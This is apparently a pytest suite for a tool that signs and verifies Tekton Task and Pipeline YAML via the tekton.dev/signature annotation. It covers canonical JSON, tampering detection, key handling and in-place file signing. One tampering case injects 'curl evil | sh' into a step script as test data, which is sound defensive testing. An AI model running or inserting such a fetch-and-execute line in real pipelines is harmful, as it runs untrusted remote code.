"""tekton.dev/signature: the bytes Tekton hashes, round trips, tampering, keys, placement."""

from __future__ import annotations

import base64
import hashlib
import shutil
from pathlib import Path
from typing import Any

import pytest
import yaml

from catalog_cli.errors import InputError, SignatureError
from catalog_cli.signing import keys, tekton, tekton_types
from catalog_cli.signing.tekton import Serialisation
from catalog_cli.signing.tekton_file import sign_file, verify_file
from tests.conftest import BUILTIN, TEKTON_CATALOG

TASK = """\
apiVersion: tekton.dev/v1
kind: Task
metadata:
  name: hello
  labels:
    app.kubernetes.io/version: "0.1"
  annotations:
    tekton.dev/tags: a<b & c>d
    kubectl.kubernetes.io/last-applied-configuration: "{}"
spec:
  params:
    - name: who
      default: world
    - name: list
      default: [a, b]
    - name: obj
      properties:
        x: {}
  results:
    - name: out
  steps:
    - name: say
      image: alpine
      timeout: 90m
      script: |
        echo "hi $(params.who)"
"""

# What Go's json.Marshal writes for TASK after SetDefaults and PrepareObjectMeta, derived
# by hand from Tekton's structs: TypeMeta's kind before apiVersion; defaults filled in;
# the kubectl annotation dropped; HTML characters escaped; the Step's computeResources
# written although empty (a struct is never omitted); the duration normalised.
TASK_JSON = (
    '{"kind":"Task","apiVersion":"tekton.dev/v1","metadata":{"name":"hello",'
    '"labels":{"app.kubernetes.io/version":"0.1"},"annotations":{"tekton.dev/tags":"a\\u003cb \\u0026 c\\u003ed"}},'
    '"spec":{"params":[{"name":"who","type":"string","default":"world"},'
    '{"name":"list","type":"array","default":["a","b"]},'
    '{"name":"obj","type":"object","properties":{"x":{"type":"string"}}}],'
    '"steps":[{"name":"say","image":"alpine","computeResources":{},'
    '"script":"echo \\"hi $(params.who)\\"\\n","timeout":"1h30m0s"}],'
    '"results":[{"name":"out","type":"string"}]}}'
)

PIPELINE = """\
apiVersion: tekton.dev/v1
kind: Pipeline
metadata: {name: build}
spec:
  tasks:
    - name: clone
      taskRef: {name: git-clone}
    - name: remote
      taskRef:
        resolver: bundles
        params: [{name: bundle, value: "reg/x:1"}]
    - name: inline
      runAfter: [clone]
      taskSpec:
        steps: [{name: s, image: busybox}]
  results:
    - name: sha
      value: $(tasks.clone.results.commit)
"""

PIPELINE_JSON = (
    '{"kind":"Pipeline","apiVersion":"tekton.dev/v1","metadata":{"name":"build"},"spec":{"tasks":['
    '{"name":"clone","taskRef":{"name":"git-clone","kind":"Task"}},'
    '{"name":"remote","taskRef":{"resolver":"bundles","params":[{"name":"bundle","value":"reg/x:1"}]}},'
    '{"name":"inline","taskSpec":{"spec":null,"metadata":{},"steps":[{"name":"s","image":"busybox",'
    '"computeResources":{}}]},"runAfter":["clone"]}],'
    '"results":[{"name":"sha","description":"","value":"$(tasks.clone.results.commit)"}]}}'
)


@pytest.fixture(scope="module")
def key() -> keys.PrivateKey:
    return keys.generate()


def _doc(text: str) -> Any:
    return yaml.safe_load(text)


def test_a_task_is_serialised_as_go_writes_the_defaulted_object() -> None:
    assert tekton.canonical_json(_doc(TASK), "t.yaml").decode() == TASK_JSON


def test_a_pipeline_gets_task_kinds_and_embedded_tasks_as_go_writes_them() -> None:
    assert tekton.canonical_json(_doc(PIPELINE), "p.yaml").decode() == PIPELINE_JSON


def test_tekton_before_1_10_hashes_a_null_creation_timestamp() -> None:
    old = tekton.canonical_json(_doc(TASK), "t.yaml", Serialisation.BEFORE_1_10).decode()
    assert old == TASK_JSON.replace('"name":"hello",', '"name":"hello","creationTimestamp":null,', 1)
    assert Serialisation.for_version("v1.9.2") is Serialisation.BEFORE_1_10
    assert Serialisation.for_version("1.10") is Serialisation.CURRENT
    with pytest.raises(InputError, match="v0.59 and later"):
        Serialisation.for_version("0.58")


def test_the_signature_is_ecdsa_over_sha256_of_the_checksum(key: keys.PrivateKey) -> None:
    """What sigstore's ECDSA verifier (the one Tekton calls) checks: it hashes the
    message it is given, and the message is the 32-byte checksum."""
    doc = _doc(TASK)
    sig = base64.b64decode(tekton.signature(doc, key, "t.yaml"), validate=True)
    checksum = hashlib.sha256(TASK_JSON.encode()).digest()
    assert tekton.checksum(doc, "t.yaml") == checksum
    assert key.public.verify(sig, checksum)
    assert not key.public.verify(sig, TASK_JSON.encode())


@pytest.mark.parametrize(("before", "after"), [
    ("timeout: 90m", "timeout: 1h30m"),                               # the same duration
    ("      default: world", "      type: string\n      default: world"),  # the default made explicit
    ("    kubectl.kubernetes.io/last-applied-configuration: \"{}\"\n", ""),  # kubectl's own annotation
    ("  name: hello\n", "  name: hello\n  uid: 1234\n  resourceVersion: \"9\"\n  creationTimestamp: null\n"),
    ("    tekton.dev/tags: a<b & c>d\n    kubectl.kubernetes.io/last-applied-configuration: \"{}\"\n",
     "    kubectl.kubernetes.io/last-applied-configuration: \"{}\"\n    tekton.dev/tags: a<b & c>d\n"),
    ("      image: alpine\n      timeout: 90m\n", "      timeout: 90m\n      image: alpine\n"),  # key order
])
def test_what_tekton_does_not_hash_does_not_break_a_signature(key: keys.PrivateKey, before: str, after: str) -> None:
    signed = _doc(TASK)
    signed["metadata"]["annotations"][tekton.SIGNATURE_ANNOTATION] = tekton.signature(signed, key, "t.yaml")
    text = yaml.safe_dump(signed, sort_keys=False)
    edited = _doc(TASK.replace(before, after))
    assert before in TASK
    edited["metadata"]["annotations"] = {**(edited["metadata"].get("annotations") or {}),
                                         tekton.SIGNATURE_ANNOTATION: signed["metadata"]["annotations"][
                                             tekton.SIGNATURE_ANNOTATION]}
    assert tekton.verify(edited, [key.public], "t.yaml").keyid == key.keyid
    assert text  # the signed document itself serialises


@pytest.mark.parametrize(("before", "after"), [
    ("echo \"hi", "curl evil | sh; echo \"hi"),          # the script
    ("image: alpine", "image: alpine:evil"),
    ("app.kubernetes.io/version: \"0.1\"", "app.kubernetes.io/version: \"0.2\""),  # a label
    ("tekton.dev/tags: a<b & c>d", "tekton.dev/tags: other"),   # an annotation
    ("  name: hello\n", "  name: hello\n  namespace: other\n"),
    ("      default: world", "      default: World"),
    ("timeout: 90m", "timeout: 91m"),
])
def test_tampering_with_what_tekton_hashes_breaks_the_signature(key: keys.PrivateKey, before: str, after: str) -> None:
    sig = tekton.signature(_doc(TASK), key, "t.yaml")
    tampered = _doc(TASK.replace(before, after))
    tampered["metadata"]["annotations"][tekton.SIGNATURE_ANNOTATION] = sig
    with pytest.raises(SignatureError) as err:
        tekton.verify(tampered, [key.public], "t.yaml")
    assert err.value.reason == "bad-signature" and "Task/hello" in str(err.value)


def test_another_key_or_no_signature_or_garbage_is_refused(key: keys.PrivateKey) -> None:
    doc = _doc(TASK)
    with pytest.raises(SignatureError) as err:
        tekton.verify(doc, [key.public], "t.yaml")
    assert err.value.reason == "unsigned"
    doc["metadata"]["annotations"][tekton.SIGNATURE_ANNOTATION] = tekton.signature(doc, keys.generate(), "t.yaml")
    with pytest.raises(SignatureError) as err:
        tekton.verify(doc, [key.public], "t.yaml")
    assert err.value.reason == "bad-signature" and key.keyid in str(err.value)
    doc["metadata"]["annotations"][tekton.SIGNATURE_ANNOTATION] = "not base64!"
    with pytest.raises(SignatureError) as err:
        tekton.verify(doc, [key.public], "t.yaml")
    assert err.value.reason == "malformed"


def test_verify_says_which_tekton_releases_a_signature_is_for(key: keys.PrivateKey) -> None:
    doc = _doc(TASK)
    doc["metadata"]["annotations"][tekton.SIGNATURE_ANNOTATION] = tekton.signature(
        doc, key, "t.yaml", Serialisation.BEFORE_1_10)
    assert tekton.verify(doc, [keys.generate().public, key.public], "t.yaml").serialisation is Serialisation.BEFORE_1_10


@pytest.mark.parametrize(("text", "needle"), [
    (TASK.replace("tekton.dev/v1", "tekton.dev/v1beta1"), "is tekton.dev/v1beta1 Task: catalog signs tekton.dev/v1"),
    ("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x}\n", "ConfigMap/x is v1 ConfigMap"),
    (TASK.replace("      image: alpine", "      image: alpine\n      bogus: 1"), "spec.steps[0].bogus: not a field of Tekton's Step"),
    (TASK.replace("      image: alpine", "      image: alpine\n      env: [{name: N, value: 8080}]"),
     "spec.steps[0].env[0].value: expected a string"),
    (TASK.replace("      image: alpine", "      image: alpine\n      computeResources: {limits: {cpu: 1.0e-7}}"),
     "spec.steps[0].computeResources.limits.cpu: expected a quantity"),
    (TASK.replace("      image: alpine", "      image: alpine\n      computeResources: {limits: {memory: 1e3}}"),
     "not one this tool reproduces"),
    (TASK.replace("timeout: 90m", "timeout: 90 minutes"), "spec.steps[0].timeout: invalid duration"),
    (TASK.replace("spec:\n", "status: {}\nspec:\n"), "status: not a field of a Tekton Task"),
    (PIPELINE.replace("value: \"reg/x:1\"", "value: null}, {name: x"), "value: a value is required"),
    (TASK.replace("  results:\n    - name: out\n", "  volumes: [{name: v, nfs: {server: s, path: /}}]\n"),
     "spec.volumes[0].nfs: not a field of Tekton's Volume"),
])
def test_what_cannot_be_hashed_as_tekton_would_is_refused_naming_the_field(text: str, needle: str) -> None:
    with pytest.raises(InputError) as err:
        tekton.canonical_json(_doc(text), "x.yaml")
    assert str(err.value).startswith("x.yaml: ") and needle in str(err.value), str(err.value)
    assert "\n" not in str(err.value)


@pytest.mark.parametrize(("quantity", "written"), [
    ("500m", "500m"), ("1000m", "1"), ("0.5", "500m"), ("1.5", "1500m"), ("2000", "2k"), ("1Gi", "1Gi"),
    ("1024Mi", "1Gi"), ("512Mi", "512Mi"), ("8Gi", "8Gi"), ("1536Ki", "1536Ki"), ("0", "0"), ("0Mi", "0"),
    ("100M", "100M"), ("128974848", "128974848"),
])
def test_quantities_are_written_as_kubernetes_canonicalises_them(quantity: str, written: str) -> None:
    text = TASK.replace("      image: alpine", f"      image: alpine\n      computeResources: {{requests: {{memory: '{quantity}'}}}}")
    assert f'"computeResources":{{"requests":{{"memory":"{written}"}}}}' in tekton.canonical_json(_doc(text), "x").decode()


def test_every_type_the_tables_name_is_defined() -> None:
    for name, struct_fields in tekton_types.STRUCTS.items():
        for f in struct_fields:
            base = tekton_types.base(f.type)
            assert base in tekton_types.SCALARS or base in tekton_types.STRUCTS, (name, f)


def _tekton_v1(paths: list[Path]) -> list[tuple[Path, Any]]:
    found = []
    for path in paths:
        try:
            docs = list(yaml.safe_load_all(path.read_text()))
        except yaml.YAMLError:
            continue
        found += [(path, d) for d in docs if isinstance(d, dict) and d.get("apiVersion") == "tekton.dev/v1"
                  and d.get("kind") in ("Task", "Pipeline")]
    return found


def test_every_v1_task_and_pipeline_of_the_corpus_and_the_builtin_catalog_signs_and_verifies(key: keys.PrivateKey) -> None:
    found = _tekton_v1(sorted(TEKTON_CATALOG.rglob("*.yaml")) + sorted(BUILTIN.rglob("*.yaml")))
    assert len(found) >= 90
    for path, doc in found:
        doc.setdefault("metadata", {}).setdefault("annotations", {})
        doc["metadata"]["annotations"] = dict(doc["metadata"]["annotations"] or {})
        doc["metadata"]["annotations"][tekton.SIGNATURE_ANNOTATION] = tekton.signature(doc, key, str(path))
        assert tekton.verify(doc, [key.public], str(path)).keyid == key.keyid


# -- the file, edited in place --------------------------------------------------------

def _signed_copy(tmp_path: Path, text: str, key: keys.PrivateKey, name: str = "t.yaml") -> tuple[Path, str]:
    path = tmp_path / name
    path.write_text(text)
    sign_file(path, key)
    return path, path.read_text()


def test_signing_a_file_adds_one_line_and_keeps_the_rest(tmp_path: Path, key: keys.PrivateKey) -> None:
    text = "# a comment that stays\n" + TASK.replace("  name: hello", "  name: hello  # and this one")
    path, signed = _signed_copy(tmp_path, text, key)
    added = [line for line in signed.splitlines() if line not in text.splitlines()]
    assert len(added) == 1 and added[0].startswith(f"    {tekton.SIGNATURE_ANNOTATION}: \"ME")
    assert signed.replace(added[0] + "\n", "") == text
    assert [v.name for v in verify_file(path, [key.public])] == ["hello"]


def test_signing_again_replaces_the_signature(tmp_path: Path, key: keys.PrivateKey) -> None:
    path, first = _signed_copy(tmp_path, TASK, key)
    other = keys.generate()
    sign_file(path, other)
    second = path.read_text()
    assert len(second.splitlines()) == len(first.splitlines())
    assert verify_file(path, [other.public])[0].keyid == other.keyid
    with pytest.raises(SignatureError):
        verify_file(path, [key.public])


@pytest.mark.parametrize("text", [
    TASK.replace("  annotations:\n    tekton.dev/tags: a<b & c>d\n"
                 "    kubectl.kubernetes.io/last-applied-configuration: \"{}\"\n", ""),  # no annotations
    PIPELINE,                                                                          # flow-style metadata
    TASK.replace("  annotations:\n    tekton.dev/tags: a<b & c>d\n"
                 "    kubectl.kubernetes.io/last-applied-configuration: \"{}\"\n", "  annotations: {}\n"),
    TASK + "---\n" + PIPELINE,                                                         # several documents
])
def test_signatures_are_placed_whatever_the_metadata_looks_like(tmp_path: Path, key: keys.PrivateKey, text: str) -> None:
    path, _ = _signed_copy(tmp_path, text, key)
    results = verify_file(path, [key.public])
    assert len(results) == text.count("apiVersion: tekton.dev/v1")


def test_a_file_with_anything_but_v1_tasks_and_pipelines_is_refused_and_left_alone(tmp_path: Path, key: keys.PrivateKey) -> None:
    path = tmp_path / "mixed.yaml"
    text = TASK + "---\napiVersion: v1\nkind: ConfigMap\nmetadata: {name: c}\n"
    path.write_text(text)
    with pytest.raises(InputError, match="ConfigMap/c is v1 ConfigMap"):
        sign_file(path, key)
    assert path.read_text() == text


def test_verifying_a_file_names_it_and_the_resource(tmp_path: Path, key: keys.PrivateKey) -> None:
    path, signed = _signed_copy(tmp_path, TASK, key)
    path.write_text(signed.replace("image: alpine", "image: alpine:evil"))
    with pytest.raises(SignatureError) as err:
        verify_file(path, [key.public])
    assert str(err.value).startswith(f"{path}: Task/hello: the signature does not verify")


def test_the_builtin_catalogs_tasks_sign_in_place(tmp_path: Path, key: keys.PrivateKey) -> None:
    for source in sorted(BUILTIN.glob("*/*/*/*.yaml")):
        if source.name in ("rbac.yaml",) or source.parent.name == "samples":
            continue
        if not _tekton_v1([source]):
            continue
        copy = tmp_path / source.name
        shutil.copy(source, copy)
        sign_file(copy, key)
        assert verify_file(copy, [key.public])
        assert len(copy.read_text().splitlines()) - len(source.read_text().splitlines()) in (1, 2)
